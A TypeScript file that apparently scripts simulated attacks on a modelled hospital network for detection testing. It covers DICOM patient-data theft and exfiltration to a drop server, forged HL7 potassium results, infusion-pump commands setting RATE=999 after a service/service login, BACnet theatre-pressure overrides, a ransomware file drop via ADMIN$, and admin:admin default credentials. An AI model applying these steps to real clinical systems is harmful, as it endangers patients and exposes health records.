/** Attacks on the hospital, from public reports: exposed PACS, ransomware in imaging, infusion pumps, ventilation. */
import * as bacnet from '#protocols/bacnet/testing/encode'
import { askWhoIs, BacnetConversation } from '../../conversations/bacnet.ts'
import { signIn, writeFile } from '../../conversations/files.ts'
import { fetch } from '../../conversations/web.ts'
import { Connection } from '../../network/connection.ts'
import { milliseconds, seconds } from '../../network/scheduler.ts'
import type { PlantStep } from '../../network/step.ts'
import type { PlantWorld } from '../../network/world.ts'
import { attack, DROP_SERVER, executable, uploadInBulk } from '../kit/intrusions.ts'
import type { Hospital } from './site.ts'
import {
  beginHl7,
  CT_IMAGE,
  DicomAssociation,
  hl7,
  line,
  MODALITY_CLASSES,
  QUERY_CLASSES,
  VERIFICATION,
} from './talk.ts'

const NAMES = Array.from({ length: 40 }, (_, i) => `PATIENT^${String(i).padStart(3, '0')}`)
const LIFE_SAFETY = 1

export function hospitalAttacks(site: Hospital): PlantStep<PlantWorld>[] {
  const {
    plan,
    archive,
    imaging,
    wards,
    building,
    readingStations,
    modalities,
    theatres,
    pumpServer,
    interfaceEngine,
  } = site
  const inImaging = plan.unknownClient(imaging, 245)
  const inWards = plan.unknownClient(wards, 246)
  const inBuilding = plan.unknownClient(building, 247)
  const station = readingStations[0]!
  const modality = modalities[0]!.host
  const [theatre, second] = theatres as readonly [Hospital['theatres'][number], Hospital['theatres'][number]]
  const pc = site.office.pcs[0]!
  const titles = { called: 'ARCHIVE', calling: 'ANY-SCU' }
  return [
    attack({
      id: 'dicom-verification-sweep',
      kind: 'A',
      technique: 'T0846',
      actor: inImaging,
      victims: [archive, ...modalities.map(({ host }) => host)],
      acts: ['scan', 'identify'],
      *play(world) {
        for (const { host } of [{ host: archive }, ...modalities]) {
          const association = yield* DicomAssociation.open(world, inImaging, host, {
            titles,
            classes: [VERIFICATION],
          })
          yield* association.echo()
          yield* association.close()
        }
      },
    }),
    attack({
      id: 'dicom-patients-queried',
      kind: 'A',
      technique: 'T0811',
      actor: inImaging,
      victims: [archive],
      acts: ['patient', 'read-values'],
      *play(world) {
        const association = yield* DicomAssociation.open(world, inImaging, archive, {
          titles,
          classes: QUERY_CLASSES,
        })
        for (let i = 0; i < 6; i++) yield* association.find(NAMES)
        yield* association.close()
      },
    }),
    attack({
      id: 'dicom-images-taken',
      kind: 'A',
      technique: 'T0811',
      actor: inImaging,
      victims: [archive],
      acts: ['patient', 'exfiltration'],
      *play(world) {
        const association = yield* DicomAssociation.open(world, inImaging, archive, {
          titles,
          classes: QUERY_CLASSES,
        })
        yield* association.find(NAMES)
        yield* association.move('ANY-SCU')
        yield* association.close()
        const back = { called: 'ANY-SCU', calling: 'ARCHIVE' }
        const sending = yield* DicomAssociation.open(world, archive, inImaging, {
          titles: back,
          classes: MODALITY_CLASSES,
        })
        const random = world.random('taken')
        for (let i = 0; i < 30; i++)
          yield* sending.store(CT_IMAGE, `1.2.826.0.1.3680043.9.${i + 1}`, random.bytes(30_000))
        yield* sending.close()
      },
    }),
    attack({
      id: 'images-to-the-internet',
      kind: 'L',
      technique: 'T0882',
      actor: station,
      victims: [DROP_SERVER],
      acts: ['exfiltration'],
      isStatistical: true,
      play: (world) => uploadInBulk(world, station, 120),
    }),
    attack({
      id: 'image-planted',
      kind: 'A',
      technique: 'T0832',
      actor: inImaging,
      victims: [archive],
      acts: ['forge', 'patient'],
      *play(world) {
        const association = yield* DicomAssociation.open(world, inImaging, archive, {
          titles: { called: 'ARCHIVE', calling: 'CTSCANNER' },
          classes: MODALITY_CLASSES,
        })
        yield* association.store(
          CT_IMAGE,
          '1.2.826.0.1.3680043.9.666.1',
          world.random('planted').bytes(20_000),
        )
        yield* association.close()
      },
    }),
    attack({
      id: 'results-forged',
      kind: 'A',
      technique: 'T1692.002',
      actor: inImaging,
      victims: [interfaceEngine],
      acts: ['forge', 'patient'],
      *play(world) {
        const connection = yield* beginHl7(world, inImaging, interfaceEngine)
        for (let i = 0; i < 4; i++) {
          yield* hl7(world, connection, {
            ...{ type: 'ORU^R01', id: `X${i}`, from: 'LABORATORYSYSTEM', to: 'HIS' },
            segments: ['PID|1||40017^^^HOSP||DOE^JANE', 'OBX|1|NM|2823-3^POTASSIUM||7.9|mmol/L|||||F'],
          })
          yield seconds(2)
        }
        yield* connection.close()
      },
    }),
    attack({
      id: 'patients-read-by-hl7',
      kind: 'A',
      technique: 'T0811',
      actor: inWards,
      victims: [interfaceEngine],
      acts: ['patient'],
      *play(world) {
        const connection = yield* beginHl7(world, inWards, interfaceEngine)
        for (let i = 0; i < 25; i++) {
          yield* hl7(world, connection, {
            ...{ type: 'QRY^A19', id: `Q${i}`, from: 'X', to: 'HIS' },
            segments: [`QRD|20260302||R|I|Q${i}|||1^RD|${10_000 + i}|DEM`],
          })
          yield milliseconds(200)
        }
        yield* connection.close()
      },
    }),
    attack({
      id: 'pump-gateway-commanded',
      kind: 'A',
      technique: 'T1692.001',
      actor: inWards,
      victims: [pumpServer],
      acts: ['command', 'set-point'],
      *play(world) {
        const connection = yield* world.connect(inWards, pumpServer, 3613)
        for (const text of [
          'LOGIN service service',
          'SET infusion-pump-1 RATE=999',
          'SET infusion-pump-2 RATE=999',
        ])
          yield* line(connection, `${text}\r\n`, 'OK\r\n')
        yield* connection.close()
      },
    }),
    attack({
      id: 'pumps-scanned',
      kind: 'A',
      technique: 'T0846.001',
      actor: inWards,
      victims: site.pumps,
      acts: ['scan'],
      *play(world) {
        for (const host of site.pumps)
          for (const port of [21, 22, 23, 80, 443, 8080, 20_002]) {
            yield* Connection.probe(world.network, inWards, { host, port })
            yield milliseconds(40)
          }
      },
    }),
    attack({
      id: 'theatre-pressure-overridden',
      kind: 'A',
      technique: 'T1692.001',
      actor: inBuilding,
      victims: [theatre.host],
      acts: ['command', 'force', 'set-point'],
      *play(world) {
        yield* askWhoIs(world, inBuilding, theatres)
        const talk = new BacnetConversation(world, inBuilding)
        for (const object of [
          { type: 2, instance: 1 },
          { type: 1, instance: 0 },
        ]) {
          yield* talk.ask(
            theatre,
            (id) => bacnet.writeProperty(id, object, 85, { real: -15 }, LIFE_SAFETY),
            (id) => bacnet.simpleAck(id, 15),
          )
          yield seconds(1)
        }
      },
    }),
    attack({
      id: 'theatre-controller-restarted',
      kind: 'L',
      technique: 'T0816',
      actor: site.hvacServer,
      victims: [second.host],
      acts: ['restart'],
      *play(world) {
        const talk = new BacnetConversation(world, site.hvacServer)
        yield* talk.ask(
          second,
          (id) => bacnet.reinitialize(id, 0, 'hvac'),
          (id) => bacnet.simpleAck(id, 20),
        )
        yield* world.network.outage([second.host], 35)
      },
    }),
    attack({
      id: 'theatre-set-point-by-office',
      kind: 'L',
      technique: 'T1692.001',
      actor: pc,
      victims: [theatre.host],
      acts: ['set-point', 'command'],
      *play(world) {
        const talk = new BacnetConversation(world, pc)
        yield* talk.write(theatre, { type: 2, instance: 1 }, 40)
      },
    }),
    attack({
      id: 'ransomware-in-imaging',
      kind: 'L',
      technique: 'T0867',
      actor: station,
      victims: [modality],
      acts: ['file-drop', 'ransomware'],
      *play(world) {
        const { connection } = yield* signIn(world, station, modality)
        yield* writeFile(connection, modality, {
          share: 'ADMIN$',
          name: 'Temp\\svhost.exe',
          content: executable(world, 30_000),
        })
        const random = world.random('imaging')
        for (let i = 0; i < 30; i++)
          yield* writeFile(connection, modality, {
            share: 'C$',
            name: `images\\study${i}.dcm.enc`,
            content: random.bytes(4000),
          })
        yield* connection.close()
      },
    }),
    attack({
      id: 'web-interface-default-password',
      kind: 'A',
      technique: 'T1694.001',
      actor: inWards,
      victims: [site.printers[0]!],
      acts: ['default-password'],
      play: (world) =>
        fetch(world, inWards, {
          server: site.printers[0]!,
          path: '/hp/device/config',
          product: 'HP HTTP Server',
          bytes: 3000,
          authorization: `Basic ${btoa('admin:admin')}`,
        }),
    }),
    attack({
      id: 'modality-engineers-archive',
      kind: 'L',
      technique: 'T0811',
      actor: modality,
      victims: [archive],
      acts: ['patient'],
      *play(world) {
        const association = yield* DicomAssociation.open(world, modality, archive, {
          titles: { called: 'ARCHIVE', calling: 'CTSCANNER' },
          classes: QUERY_CLASSES,
        })
        for (let i = 0; i < 4; i++) yield* association.find(NAMES)
        yield* association.move('CTSCANNER')
        yield* association.close()
      },
    }),
  ]
}
